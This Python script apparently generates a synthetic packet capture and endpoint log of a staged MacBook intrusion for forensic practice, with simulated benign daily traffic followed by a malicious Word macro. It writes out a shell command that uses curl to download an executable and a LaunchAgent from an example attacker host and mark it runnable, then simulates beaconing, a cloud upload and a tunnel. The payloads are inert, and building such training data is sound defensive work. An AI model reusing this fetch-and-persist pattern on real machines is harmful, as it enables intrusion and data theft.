"""Makes intrusion.pcapng.gz and intrusion.eslogger.jsonl: four days of one MacBook, on the last two of which it is broken into.

    python3 make_intrusion.py [FOLDER]

The Mac starts each morning at about half past eight (address, captive probe, push, clock, iCloud), its owner reads pages and mail, and it sleeps in the evening.
On the third day, at 16:40, a document in Word runs a shell; curl fetches a program and a LaunchAgent's list, in clear. Nothing runs yet. On the fourth day launchd starts
the program with the login: it calls home within the minute and then every three minutes, give or take a fifth; at 11:05 it sends 1.2 MB to Dropbox's
API; at 11:40 it opens a WireGuard tunnel to an address and keeps it for twelve minutes. The capture names processes as Apple's tcpdump does, the log is what
`eslogger exec fork exit` prints; the program lies in a hidden folder of /Users/Shared and has no signature.

All from one seed: the same bytes each time. Long streams are cut to their headers, true lengths kept.
"""
import gzip
import pathlib
import random
import struct
import sys

import make_document
import names
import stories
import tls
import wire
from mac import MacBook
from make_document import Log
from talk import Tcp, datagram

START = 1718006400  # Monday, 2024-06-10 08:00:00 UTC
HOUR, DAY = 3600, 86400
MAC, HARDWARE = "192.168.7.31", "3c:22:fb:4e:91:0d"
HOME, STORE, LOAD = "edge.quiet-harbour.example", "content.dropboxapi.com", "cdn.quiet-harbour.example"
TUNNEL = "203.0.113.140"
WORD_PATH = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
IMPLANT_PATH = "/Users/Shared/.sync/updated"
AGENT = "/Users/anna/Library/LaunchAgents/com.sync.updated.plist"
LAUNCHD, RESPONDER, SYSTEM, PUSH, SAFARI, WORD, SHELL, CURL, CURL_2, IMPLANT = 1, 188, 201, 95, 640, 812, 1310, 1311, 1313, 402
NAMES = {RESPONDER: "mDNSResponder", SYSTEM: "cloudd", PUSH: "apsd", SAFARI: "Safari", WORD: "Microsoft Word", CURL: "curl", CURL_2: "curl",
         IMPLANT: "updated"}

names.WORLD[HOME] = ([], ["203.0.113.77"], 300)
names.WORLD[LOAD] = ([], ["198.51.100.204"], 300)
names.WORLD[STORE] = (["content.dropboxapi.g.dropbox.example"], ["162.125.66.14"], 60)


class Record(wire.Timeline):
    """Packets with the process that sent or got them, written as Apple's tcpdump does; `who` is at work, `asks` lets mDNSResponder ask."""

    def __init__(self, start):
        super().__init__(start)
        self.who, self.asks, self.said = None, None, []

    def add(self, at, frame, keep=None):
        super().add(at, frame, keep)
        outward = frame[6:12] == wire.mac_bytes(HARDWARE)
        self.said.append((outward, self.who, self.asks))

    def write(self, path):
        order, blocks = sorted(range(len(self.packets)), key=lambda i: self.packets[i][0]), {}
        with open(path, "wb") as raw, gzip.GzipFile("", "wb", 9, raw, mtime=0) as out:
            out.write(wire.section_header("lunette sample: a staged intrusion, examples/make_intrusion.py"))
            out.write(wire.interface_description("en0"))
            for i in order:
                micros, kept, length = self.packets[i]
                outward, *people = self.said[i]
                for pid in people:
                    if pid and pid not in blocks:
                        blocks[pid] = len(blocks)
                        out.write(wire.block(0x80000001, struct.pack("<I", pid) + wire.option(2, NAMES[pid].encode()) + wire.option(0, b"")))
                options = b"".join(wire.option(code, struct.pack("<I", blocks[pid])) for code, pid in zip((0x8001, 0x8003), people) if pid)
                options += wire.option(2, struct.pack("<I", 2 if outward else 1)) + wire.option(0, b"")
                body = struct.pack("<IIIII", 0, micros >> 32, micros & 0xFFFFFFFF, len(kept), length)
                out.write(wire.block(6, body + kept + bytes(-len(kept) % 4) + options))


class Mac(MacBook):
    def ask(self, at, name, kind):
        line = self.line
        line.who, line.asks = RESPONDER, line.who
        done = super().ask(at, name, kind)
        line.who, line.asks = line.asks, None
        return done


# -------------------------------------------------------------------- the owner's day
SITES = (("www.bbc.co.uk", "ichef.bbci.co.uk"), ("en.wikipedia.org", "upload.wikimedia.org"), ("github.com", "github.githubassets.com"),
         ("www.bahn.de", "www.deutschebahn.com"), ("www.openstreetmap.org", "tile.openstreetmap.org"))


def as_(line, pid, what, *arguments, **options):
    line.who = pid
    result = what(*arguments, **options)
    line.who = None
    return result


def start(mac, at):
    """What macOS does when it comes up."""
    line = mac.line
    as_(line, None, mac.join, at, fresh=False)
    as_(line, SYSTEM, stories.captive_probe, mac, at + 1.2)
    as_(line, SYSTEM, mac.set_clock, at + 3.0)
    as_(line, PUSH, push, mac, at + 4.5, at + 9.2 * HOUR)
    for delay, name, size in ((7, "gateway.icloud.com", 21000), (9, "p68-caldav.icloud.com", 5000), (14, "gdmf.apple.com", 30000),
                              (21, "p68-contacts.icloud.com", 3000), (33, "weather-data.apple.com", 9000)):
        as_(line, SYSTEM, mac.https, at + delay + mac.rng.random(), name, size)


def push(mac, at, until):
    """One connection to Apple's push service for the day, a word every quarter of an hour."""
    talk = mac.tls_open(at, "21-courier.push.apple.com", 5223, alpn=("apns-security-v3", "apns-pack-v1"))
    talk.client_says(tls.sealed(mac.rng, 1820)).server_says(tls.sealed(mac.rng, 60))
    while talk.at < until:
        talk.wait(600 + mac.rng.random() * 600)
        talk.client_says(tls.sealed(mac.rng, 5)).server_says(tls.sealed(mac.rng, 5))
    talk.close()


def day(mac, begin):
    """A start, some sittings of reading, iCloud now and then."""
    rng, line = mac.rng, mac.line
    start(mac, begin)
    for sitting in range(4):
        at, site = begin + 900 + sitting * 2.1 * HOUR + rng.random() * 1800, rng.choice(SITES)
        for _ in range(rng.randrange(2, 4)):
            for name in site:
                as_(line, SAFARI, mac.https, at, name, rng.randrange(9000, 40000), requests=2)
            at += 20 + rng.random() * 90
    for _ in range(7):
        name, least, most = rng.choice((("gateway.icloud.com", 4000, 30000), ("p68-caldav.icloud.com", 1500, 9000), ("xp.apple.com", 300, 900)))
        as_(line, SYSTEM, mac.https, begin + 700 + rng.random() * 8.2 * HOUR, name, rng.randrange(least, most))


# -------------------------------------------------------------------- the harm
def fetch(mac, at, pid, path, kind, size):
    body = mac.rng.randbytes(size)
    request = f"GET {path} HTTP/1.1\r\nHost: {LOAD}\r\nUser-Agent: curl/8.6.0\r\nAccept: */*\r\n\r\n".encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {size}\r\n\r\n".encode()
    if kind == "text/xml":
        body = (b"<?xml version=\"1.0\"?><!-- sample, does nothing -->" + b" " * size)[:size]
    else:
        body = b"\xcf\xfa\xed\xfe\x0c\0\0\1\0\0\0\0\2\0\0\0" + body[16:]
    return as_(mac.line, pid, mac.http, at, LOAD, request, head, body, keep=(2000, len(head) + 64))


def document(mac, log, at):
    """Word's macro runs a shell, which lets curl fetch the program and the LaunchAgent's list."""
    make = log.process
    word = make(WORD, 1801, WORD_PATH, LAUNCHD, WORD, "com.microsoft.Word", "UBF8T346G9", at - 60)
    log.exec(at - 60, make(WORD, 1800, "/usr/libexec/xpcproxy", LAUNCHD, WORD, "com.apple.xpcproxy", born=at - 60), word, [WORD_PATH])
    child = make(SHELL, 1900, WORD_PATH, WORD, WORD, "com.microsoft.Word", "UBF8T346G9", at)
    log.fork(at, word, child)
    shell = make(SHELL, 1901, "/bin/sh", WORD, WORD, "com.apple.sh", born=at)
    commands = [f"curl -s -o {IMPLANT_PATH} http://{LOAD}/u/mac", f"curl -s -o {AGENT} http://{LOAD}/u/agent"]
    log.exec(at + 0.002, child, shell, ["sh", "-c", " && ".join([commands[0], f"chmod +x {IMPLANT_PATH}", commands[1]])])
    for pid, step, command, path, kind, size in ((CURL, 0.01, commands[0], "/u/mac", "application/octet-stream", 61000),
                                                 (CURL_2, 2.5, commands[1], "/u/agent", "text/xml", 600)):
        second = make(pid, 1910, "/bin/sh", SHELL, WORD, "com.apple.sh", born=at + step)
        log.fork(at + step, shell, second)
        curl = make(pid, 1911, "/usr/bin/curl", SHELL, WORD, "com.apple.curl", born=at + step)
        log.exec(at + step + 0.002, second, curl, command.split())
        over = fetch(mac, at + step + 0.05, pid, path, kind, size)
        log.exit(over + 0.004, curl)
    log.exit(over + 0.006, shell)


def check_ins(mac, begin, until):
    """Every three minutes, give or take a fifth; small requests, small replies, by Go's TLS stack."""
    at = begin
    while at < until:
        as_(mac.line, IMPLANT, mac.https, at, HOME, mac.rng.randrange(88, 140), up=mac.rng.randrange(180, 260), stack="go", alpn=(), keep=(300, 140))
        at += 180 * mac.rng.uniform(0.8, 1.2)


def to_the_cloud(mac, at):
    """1.2 MB to Dropbox's API by the program itself."""
    mac.line.who = IMPLANT
    talk = mac.tls_open(at, STORE, stack="go", alpn=("h2", "http/1.1"), keep=(300, 140))
    talk.client_says(tls.sealed(mac.rng, 420))
    for _ in range(5):
        talk.client_says(b"".join(tls.sealed(mac.rng, 16300) for _ in range(15)) + tls.sealed(mac.rng, 5500)).wait(0.4)
    talk.server_says(tls.sealed(mac.rng, 700), 0.2)
    talk.close()
    mac.line.who = None


def tunnel(mac, at):
    """WireGuard (its whitepaper, section 5.4): initiation, response, data that counts from 0."""
    dice, port, line = mac.rng, 61022, mac.line
    ours, theirs = dice.randbytes(4), dice.randbytes(4)
    host = mac.server(TUNNEL)
    line.who = IMPLANT
    datagram(mac, at, True, TUNNEL, port, 51820, b"\1\0\0\0" + ours + dice.randbytes(124) + bytes(16))
    datagram(mac, at + host.rtt, False, TUNNEL, port, 51820, b"\2\0\0\0" + theirs + ours + dice.randbytes(64) + bytes(16), ttl=host.ttl)
    for i in range(100):
        sent = at + host.rtt + 0.01 + i * 7.3
        datagram(mac, sent, True, TUNNEL, port, 51820, b"\4\0\0\0" + theirs + struct.pack("<Q", i) + dice.randbytes(48))
        datagram(mac, sent + host.rtt, False, TUNNEL, port, 51820, b"\4\0\0\0" + ours + struct.pack("<Q", i) + dice.randbytes(128), ttl=host.ttl)
    line.who = None


def main(folder):
    make_document.START = START
    line, log = Record(START), Log()
    mac = Mac(line, random.Random(20240610), MAC, HARDWARE, "Annas-MacBook-Air", "14.5")
    mornings = [1800 + number * DAY + minute * 60 for number, minute in enumerate((0, -4, 7, 2))]
    for begin in mornings:
        mac.cache.clear()
        day(mac, begin)
    document(mac, log, 2 * DAY + 8 * HOUR + 2400)
    login = mornings[3] + 11
    before = log.process(IMPLANT, 2200, "/usr/libexec/xpcproxy", LAUNCHD, IMPLANT, "com.apple.xpcproxy", born=login)
    log.exec(login, before, log.process(IMPLANT, 2201, IMPLANT_PATH, LAUNCHD, IMPLANT, "", "", login), [IMPLANT_PATH], cwd="/")
    mac.cache.clear()
    check_ins(mac, login + 19, mornings[3] + 4 * HOUR)
    to_the_cloud(mac, 3 * DAY + 3 * HOUR + 300)
    tunnel(mac, 3 * DAY + 3 * HOUR + 2400)
    log.lines.sort(key=lambda text: text[text.index('"time"'):][:50])
    line.write(folder / "intrusion.pcapng.gz")
    log.write(folder / "intrusion.eslogger.jsonl")


if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else pathlib.Path(__file__).parent))
